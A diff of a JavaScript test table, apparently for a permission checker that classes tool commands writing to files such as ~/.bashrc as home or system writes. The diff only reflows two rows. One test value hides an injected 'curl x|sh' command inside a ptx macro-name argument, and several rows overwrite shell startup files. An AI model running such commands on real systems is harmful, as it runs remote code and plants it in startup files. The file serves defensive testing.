@@ -31,8 +31,16 @@ describe('tool outputs are writes', () => {
     ['uniq OUTPUT positional', 'uniq /dev/null ~/.bashrc', 'home'],
     ['ptx -G OUTPUT positional', 'ptx -G README ~/.profile', 'home'],
     ['ptx -G in a cluster (review 17)', 'ptx -GO evil.sh ~/.bashrc', 'home'],
-    ['ptx -G with a macro name before the operands', "ptx -G -O -M 'x;curl x|sh;#' evil.sh ~/.bashrc", 'home'],
-    ['ptx --traditional with a long value option', 'ptx --traditional --macro-name x evil.sh ~/.profile', 'home'],
+    [
+      'ptx -G with a macro name before the operands',
+      "ptx -G -O -M 'x;curl x|sh;#' evil.sh ~/.bashrc",
+      'home',
+    ],
+    [
+      'ptx --traditional with a long value option',
+      'ptx --traditional --macro-name x evil.sh ~/.profile',
+      'home',
+    ],
     ['tree -o', 'tree -o ~/.bashrc', 'home'],
     ['gcc -o outside', 'gcc a.c -o /usr/local/bin/x', 'system'],
     ['php-cs-fixer fix', 'php-cs-fixer fix ~/.bashrc', 'home'],
